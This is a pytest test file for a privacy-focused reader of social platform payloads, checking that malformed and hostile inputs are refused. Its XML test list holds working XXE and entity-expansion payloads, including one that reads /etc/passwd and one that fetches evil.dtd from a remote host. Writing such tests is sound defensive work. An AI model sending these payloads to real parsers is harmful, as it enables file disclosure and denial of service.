"""Hostile and broken payloads: refused as a whole with a typed error, or item by item, and never anything else."""

import json
from typing import Any

import pytest

from pii.errors import BadPayload, UnknownPlatform
from pii.model import TEXT_LIMIT_BYTES, RejectReason
from pii.payload import DEPTH_LIMIT
from pii.platforms import READERS, read
from tests.unit.pii.social_samples import SAMPLES, SAMPLES_READ, Sample, at

NOBODY = frozenset[str]()
FOREIGN = [
    (platform, path)
    for platform in sorted(READERS)
    for path in sorted(SAMPLES.glob("*/*"))
    if path.parent.name != platform and not path.name.endswith(".gold.json")
]
MENTIONS = Sample("x", "01_v2_mentions_with_expansions.json")
COMMENTS = Sample("facebook", "01_page_feed_comment_add.json")


def changed(sample: Sample, *steps: str | int, to: Any) -> bytes:
    """Return the sample's body with one value exchanged."""
    document = json.loads(sample.body)
    at(document, steps[:-1])[steps[-1]] = to
    return json.dumps(document).encode()


def test_an_unknown_platform_has_no_reader():
    with pytest.raises(UnknownPlatform):
        read("myspace", b"{}", own_ids=NOBODY)


@pytest.mark.parametrize(("platform", "path"), FOREIGN, ids=lambda value: getattr(value, "name", value))
def test_a_payload_of_another_platform_is_refused(platform, path):
    with pytest.raises(BadPayload):
        read(platform, path.read_bytes(), own_ids=NOBODY)


@pytest.mark.parametrize("sample", SAMPLES_READ, ids=str)
def test_a_body_that_was_cut_is_refused_or_read_in_part(sample):
    whole = {item.item_id for item in sample.read().told()}
    for share in range(1, 10):
        try:
            reading = sample.read(sample.body[: len(sample.body) * share // 10])
        except BadPayload:
            continue
        # Only a format of several documents can be read in part.
        assert sample.file.endswith(".ndjson")
        assert {item.item_id for item in reading.told()} < whole


BAD_BODIES = [
    pytest.param(b"", id="empty"),
    pytest.param(b" \n\n ", id="white space"),
    pytest.param(b"null", id="null"),
    pytest.param(b"17", id="a number"),
    pytest.param(b'"text"', id="a string"),
    pytest.param(b"{}", id="an empty object"),
    pytest.param(b'{"data": NaN}', id="a number that JSON does not have"),
    pytest.param(b'{"data": 1e999}', id="a number beyond every measure"),
    pytest.param(b'{"data": ' + b"9" * 5_000 + b"}", id="a number of five thousand digits"),
    pytest.param(b"[" * 100_000, id="a hundred thousand brackets"),
    pytest.param(b'{"data":' * 100_000, id="a hundred thousand braces"),
    pytest.param(b'{"data": "\xff\xfe\xfa"}', id="no UTF-8"),
    pytest.param("{}".encode("utf-16-be"), id="UTF-16 without a mark"),
    pytest.param(b"<html><body>Service unavailable</body></html>", id="an HTML page"),
    pytest.param(b"<" * 1_000, id="only opening brackets"),
    pytest.param(b"\x00" * 100, id="only NUL"),
    pytest.param(b"signed_request=abc", id="a signed request without payload"),
    pytest.param(b"signed_request=a.b&signed_request=c.d", id="two signed requests"),
    pytest.param(b"signed_request=abc.bm90IGpzb24", id="a signed request without JSON"),
    pytest.param(b"signed_request=\xff.\xff", id="a signed request that is no text"),
]


@pytest.mark.parametrize("platform", sorted(READERS))
@pytest.mark.parametrize("body", BAD_BODIES)
def test_a_body_that_is_nothing_is_refused(platform, body):
    with pytest.raises(BadPayload) as refused:
        read(platform, body, own_ids=NOBODY)
    assert refused.value.code == "bad_payload"


def test_a_refusal_shows_the_place_and_no_content():
    with pytest.raises(BadPayload) as refused:
        read("x", b'{"data": "Erika Mustermann" oops}', own_ids=NOBODY)
    assert refused.value.pointer == "character 28"
    assert "Erika" not in f"{refused.value!r}{refused.value}"
    assert refused.value.__cause__ is None
    assert refused.value.__suppress_context__


BOMBS = [
    pytest.param(
        b'<!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><rss><channel>&b;</channel></rss>',
        id="entities of its own",
    ),
    pytest.param(
        b'<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel><item>&x;</item></channel></rss>',
        id="an external file",
    ),
    pytest.param(
        b'<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://192.0.2.1/evil.dtd"> %p;]><rss><channel/></rss>',
        id="an external definition",
    ),
    pytest.param(
        b"<rss><channel><item>" + b"<b>" * 50_000 + b"</b>" * 50_000 + b"</item></channel></rss>",
        id="depth without end",
    ),
    pytest.param(
        '<?xml version="1.0" encoding="utf-7"?><rss><channel/></rss>'.encode("utf-7"), id="an encoding that hides"
    ),
    pytest.param(b'<?xml version="1.0" encoding="klingon"?><rss/>', id="an encoding that nobody knows"),
]


@pytest.mark.parametrize("body", BOMBS)
def test_dangerous_xml_is_refused(body):
    with pytest.raises(BadPayload):
        read("feeds", body, own_ids=NOBODY)


def nested(depth: int) -> Any:
    node: Any = "deep"
    for _ in range(depth):
        node = [node]
    return node


POISON = [
    pytest.param(("text",), "half of \ud83d a pair", RejectReason.UNSOUND_TEXT, id="half of a surrogate pair"),
    pytest.param(("text",), "before\x00after", RejectReason.UNSOUND_TEXT, id="NUL in the text"),
    pytest.param(("lang",), "d\x00e", RejectReason.UNSOUND_TEXT, id="NUL elsewhere"),
    pytest.param(("never_seen",), {"k\x00y": 1}, RejectReason.UNSOUND_TEXT, id="NUL in a key"),
    pytest.param(("never_seen",), nested(DEPTH_LIMIT + 1), RejectReason.TOO_DEEP, id="nested too deeply"),
    pytest.param(("text",), 17, RejectReason.WRONG_TYPE, id="a number as text"),
    pytest.param(("text",), {"de": "Hallo"}, RejectReason.WRONG_TYPE, id="an object as text"),
    pytest.param(("id",), None, RejectReason.NO_ID, id="no id"),
    pytest.param(("id",), 1.5, RejectReason.NO_ID, id="a fraction as id"),
    pytest.param(("id",), True, RejectReason.NO_ID, id="a truth value as id"),
    pytest.param(("id",), " ", RejectReason.NO_ID, id="a blank id"),
    pytest.param(("id",), "a\nb", RejectReason.NO_ID, id="an id of two lines"),
    pytest.param((), "an item", RejectReason.WRONG_TYPE, id="a string as item"),
]


@pytest.mark.parametrize(("steps", "value", "reason"), POISON)
def test_one_bad_item_is_listed_and_the_others_are_read(steps, value, reason):
    reading = MENTIONS.read(changed(MENTIONS, "data", 1, *steps, to=value))
    assert (reading.rejected[0].place, reading.rejected[0].reason) == ("/data/1", reason)
    assert len(reading.items) == len(MENTIONS.read().items) - 1


def test_a_poisoned_profile_does_not_lose_the_order_to_delete():
    sample = Sample("x", "04_xaa_post_delete.json")
    reading = sample.read(changed(sample, "data", "includes", "users", 0, "data", "description", to="a\x00b"))
    (order,) = reading.orders
    assert (order.item_id, order.person.id, order.notice) == ("2090000000000000301", "1600000000000000301", None)
    assert [rejected.reason for rejected in reading.rejected] == [RejectReason.UNSOUND_TEXT]


def test_a_text_of_the_wrong_type_does_not_lose_the_order_to_hide():
    sample = Sample("facebook", "02_page_feed_edit_hide_remove.json")
    reading = sample.read(changed(sample, "entry", 1, "changes", 0, "value", "message", to=4917139200))
    assert [order.signal for order in reading.orders] == ["remove", "hide", "remove"]
    assert [field.value for field in reading.orders[1].notice.fields if field.kind == "unknown"] == [4917139200]


@pytest.mark.parametrize(
    ("length", "oversize"),
    [
        pytest.param(TEXT_LIMIT_BYTES, False, id="20,000 bytes pass"),
        pytest.param(TEXT_LIMIT_BYTES + 1, True, id="one more does not"),
        pytest.param(100_000, True, id="a hundred kilobytes"),
    ],
)
def test_a_long_text_is_read_and_marked(length, oversize):
    reading = COMMENTS.read(changed(COMMENTS, "entry", 0, "changes", 0, "value", "message", to="a" * length))
    assert [item.oversize for item in reading.items] == [oversize, False, False]
    assert len(reading.items[0].text) == length


def test_a_long_text_counts_in_bytes():
    reading = COMMENTS.read(changed(COMMENTS, "entry", 0, "changes", 0, "value", "message", to="ü" * 10_001))
    assert reading.items[0].oversize


@pytest.mark.timeout(30)
@pytest.mark.parametrize("piece", ["<", "<a ", '<a x="', "<a '>", "<!--", "<!", "</", "&#", "&", "<script>", "<p>"])
def test_hostile_markup_takes_no_longer_than_its_length_asks(piece):
    sample = Sample("mastodon", "02_conversation_direct.json")
    body = changed(sample, 0, "last_status", "content", to=(piece * 100_000)[:100_000])
    (item,) = sample.read(body).items
    assert item.item_id == "115000000000000201"


@pytest.mark.parametrize("big", [2**53 + 1, 2**63 + 1, 12345678901234567890123])
def test_ids_above_2_53_keep_every_digit(big):
    reading = COMMENTS.read(changed(COMMENTS, "entry", 0, "changes", 0, "value", "from", "id", to=big))
    assert reading.items[0].author.id == str(big)
    assert big in [field.value for field in reading.items[0].fields]


def test_classic_posts_go_by_the_id_in_text():
    sample = Sample("x", "02_aaa_tweet_create_longform.json")
    assert json.loads(sample.body)["tweet_create_events"][0]["id"] == 2090000000000000200
    assert sample.read().items[0].item_id == "2090000000000000201"
